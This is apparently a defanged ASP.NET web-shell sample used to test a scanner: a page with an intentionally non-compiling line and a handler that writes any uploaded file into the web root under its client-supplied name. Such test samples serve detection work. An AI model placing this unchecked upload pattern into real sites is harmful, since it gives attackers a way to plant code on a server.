<%@ Page Language="C#" %>
<%-- DEFANGED vigil test sample (see README): the block below does not compile. --%>
<% DEFANGED SAMPLE does not compile %>
<%
    if (Request.Files.Count > 0) Request.Files[0].SaveAs(Server.MapPath("~/") + Request.Files[0].FileName);
%>
<form method="post" enctype="multipart/form-data" runat="server"><input type="file" name="f" /></form>
